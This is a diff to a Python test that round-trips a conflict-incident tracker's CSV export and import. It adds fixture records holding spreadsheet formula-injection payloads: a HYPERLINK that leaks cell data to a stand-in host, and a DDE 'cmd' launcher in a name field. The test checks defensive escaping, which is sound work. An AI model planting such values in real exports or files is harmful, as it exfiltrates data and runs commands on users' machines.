@@ -478,6 +478,15 @@ def test_tracker_csv_round_trip_into_an_empty_database(roles, client_for, tmp_pa
     IncidentFactory(
         title="From ACLED", place=other, external_source="acled", external_id="SYR1", kind="armed_clash", status="disputed"
     )
+    # Text a spreadsheet would run: the export neutralises it ('=...), the import reads it back.
+    IncidentFactory(
+        title='=HYPERLINK("http://x.example/?leak="&A1,"Shelling")',
+        description="-2+3",
+        target_description="'Tis a school",
+        place=PlaceFactory(name="@SUM(1+1)", latitude=36.1, longitude=36.9),
+        perpetrator=PartyFactory(name="+cmd|' /C calc'!A0"),
+        attribution="alleged",
+    )
     call_command("recompute_provenance", stdout=io.StringIO())  # factories bypass the services
     originals = {i["title"]: i for i in reviewer.get("/api/v1/incidents/").json()["results"]}
     exported = reviewer.get("/api/v1/incidents/export/", {"format": "csv"})
@@ -486,7 +495,7 @@ def test_tracker_csv_round_trip_into_an_empty_database(roles, client_for, tmp_pa
 
     for model in (Assessment, IncidentProvenance, Incident, Place, Party):
         model._base_manager.all().delete()
-    assert run("csv", path) == ["3 rows: 3 created, 0 updated, 0 unchanged, 0 skipped, 0 failed"]
+    assert run("csv", path) == ["4 rows: 4 created, 0 updated, 0 unchanged, 0 skipped, 0 failed"]
 
     ignored = {
         "id",
@@ -510,8 +519,8 @@ def test_tracker_csv_round_trip_into_an_empty_database(roles, client_for, tmp_pa
         assert (item["perpetrator"] or {}).get("name") == (before["perpetrator"] or {}).get("name")
         expected = (before["external_source"], before["external_id"]) if before["external_id"] else ("csv", str(before["id"]))
         assert (item["external_source"], item["external_id"]) == expected
-    assert Place.objects.count() == 2  # both incidents at Saraqib share one place
-    assert run("csv", path)[0] == "3 rows: 0 created, 0 updated, 3 unchanged, 0 skipped, 0 failed"
+    assert Place.objects.count() == 3  # both incidents at Saraqib share one place
+    assert run("csv", path)[0] == "4 rows: 0 created, 0 updated, 4 unchanged, 0 skipped, 0 failed"
 
 
 def test_tracker_csv_bad_rows(db, tmp_path):
